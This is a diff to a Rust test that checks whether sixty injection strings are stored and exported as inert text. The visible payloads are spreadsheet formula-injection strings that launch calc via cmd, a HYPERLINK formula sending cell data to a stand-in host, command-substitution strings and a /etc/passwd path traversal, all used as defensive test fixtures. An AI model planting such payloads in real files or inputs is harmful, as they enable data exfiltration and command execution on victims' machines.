@@ -73,7 +73,7 @@ const SCRIPTS: [&str; 60] = [
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "=HYPERLINK(\"//x.example/?x=\"&A1,\"x\")",
-    "$(touch /tmp/x); `touch /tmp/x`",
+    "$(touch x); `touch x`",
     "../../../../etc/passwd",
 ];
 
@@ -116,7 +116,7 @@ async fn sixty_scripts_come_out_as_the_text_they_are(database: Database) {
             .flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
             .collect();
         for script in SCRIPTS {
-            let is_it = |cell: &String| cell.strip_prefix('\'').unwrap_or(cell) == script;
+            let is_it = |cell: &String| cell == script || cell.strip_prefix('\'') == Some(script);
             assert!(cells.iter().any(is_it), "{script} is not in {written}");
         }
         let runs = |cell: &&String| cell.starts_with(['=', '+', '-', '@']);
